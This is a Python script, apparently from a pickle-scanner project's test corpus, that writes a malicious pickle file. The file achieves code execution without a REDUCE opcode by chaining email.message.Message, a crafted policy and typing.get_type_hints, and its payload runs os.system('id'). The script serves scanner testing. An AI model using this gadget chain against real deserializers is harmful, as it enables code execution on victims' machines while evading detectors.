#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright (c) 2026 The mscan authors
"""Writes corpus/malicious/pkl_rt_setitem_gadget.pkl: code run without any REDUCE (found by a
red-team pass). email.message.Message is made with NEWOBJ and given a policy whose
header_max_count is typing.get_type_hints; SETITEM then calls Message.__setitem__, which
calls that with a key whose __annotations__ string get_type_hints evaluates. Standard
library only, never unpickled. Run in corpus/malicious/."""
import struct
def s(x): b=x.encode(); return b'\x8c'+bytes([len(b)]) + b if len(b)<256 else b'X'+struct.pack('<I',len(b))+b
def G(m,n): return s(m)+s(n)+b'\x93'
def ns_with(dict_items):  # SimpleNamespace() + BUILD {k: v}
    out = G('types','SimpleNamespace') + b')\x81' + b'}('
    for k,v in dict_items: out += s(k) + v
    return out + b'ub'
def make(code):
    p = b'\x80\x04'
    p += G('email.message','Message') + b')\x81'                   # Message.__new__(Message)
    pol = ns_with([('header_max_count', G('typing','get_type_hints'))])
    p += b'}(' + s('policy') + pol + s('_headers') + b']' + b'ub'  # BUILD state
    key = ns_with([('__annotations__', b'}' + s('a') + s(code) + b's')])
    p += key + s('v') + b's'                                     # SETITEM -> Message.__setitem__(key,'v')
    p += b'.'
    return p
open('pkl_rt_setitem_gadget.pkl', 'wb').write(make("__import__('os').system('id')"))
